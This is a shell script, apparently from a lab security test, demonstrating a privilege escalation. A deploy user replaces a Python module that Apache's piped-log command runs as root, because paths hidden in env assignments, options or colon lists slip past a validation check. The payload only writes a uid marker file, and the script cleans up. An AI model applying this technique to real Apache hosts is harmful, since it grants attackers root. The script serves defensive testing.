#!/bin/sh
# The check before root starts Apache (collect_login.started) reads a command's words as paths joined to / and to
# the ServerRoot: a path inside a word (after `KEY=`, `--opt=`, in a `:` list) becomes "/KEY=/srv/...", a name that
# is not there in root's / -- "root's to make" -- so the path the program really uses is never judged.
# Precondition as attack6's finding 1: an admin's line names a directory the deploy login may write (the deploy
# team maintains the log shipper's python module in /srv/logtools, 2775 root:deployer).
# Usage: attack7/atk_embedded_path.sh /tmp/atk7 [pythonpath|optvalue|colonlist|direct]
set -eu
W=${1:-/tmp/atk7}; KIND=${2:-pythonpath}
PORT=$(python3 -c "import json;print(json.load(open('$W/lab.json'))['ssh'])")
APP=$(python3 -c "import json;print(json.load(open('$W/lab.json'))['app'])")
CT=$(python3 -c "import json;print(json.load(open('$W/lab.json'))['container'])")
case $KIND in
  pythonpath) LINE='CustomLog "|/usr/bin/env PYTHONPATH=/srv/logtools /usr/bin/python3 -m shiplog" combined';;
  optvalue)   LINE='ErrorLog "|/usr/bin/env --chdir=/srv/logtools /usr/bin/python3 -m shiplog"';;
  colonlist)  LINE='CustomLog "|/usr/bin/env PYTHONPATH=/usr/lib/python3/dist-packages:/srv/logtools /usr/bin/python3 -m shiplog" combined';;
  direct)     LINE='CustomLog "|/usr/bin/python3 /srv/logtools/shiplog.py" combined';;  # the control: judged, refused
esac
docker exec -i "$CT" sh -c "install -d -m 2775 -o root -g deployer /srv/logtools && printf 'import sys\nfor _ in sys.stdin: pass\n' > /srv/logtools/shiplog.py && chmod 644 /srv/logtools/shiplog.py && cat > /etc/apache2/conf-available/shiplog.conf && a2enconf -q shiplog && apache2ctl graceful; sleep 2; rm -f /tmp/root-ran" <<CONF
$LINE
CONF
echo "--- root's line: $(docker exec $CT cat /etc/apache2/conf-available/shiplog.conf)"
# the deploy login replaces the module (a file in a directory it may write)
ssh -F $W/ssh_config deployer 'f=/srv/logtools/shiplog.py; printf "import os, sys\nopen(\"/tmp/root-ran\", \"w\").write(\"uid=%%d euid=%%d\\\\n\" %% (os.getuid(), os.geteuid()))\nfor _ in sys.stdin: pass\n" > $f.new && mv -f $f.new $f && ls -l $f'
echo "--- before: /tmp/root-ran"; docker exec "$CT" sh -c 'cat /tmp/root-ran 2>/dev/null || echo "(none)"'
cd "$APP" && echo 'from deploytests.tasks import *  # noqa' > fabfile.py
docker exec "$CT" sh -c 'echo "# admin note" >> /etc/apache2/sites-available/yourapplication.conf'  # drift: bootstrap rewrites it and reloads
DEPLOYTESTS_KNOWN_HOSTS=$W/known_hosts timeout 300 fab -H admin@127.0.0.1:$PORT -i $W/id_ed25519 bootstrap 2>&1 | grep -E "bootstrap" | head -3
sleep 2
echo "--- after bootstrap: /tmp/root-ran"; docker exec "$CT" sh -c 'cat /tmp/root-ran 2>/dev/null || echo "(none)"; ps -eo user,pid,args | grep [s]hiplog' || true
[ -n "${KEEP:-}" ] || docker exec "$CT" sh -c 'a2disconf -q shiplog; rm -rf /etc/apache2/conf-available/shiplog.conf /srv/logtools /tmp/root-ran; apache2ctl graceful'
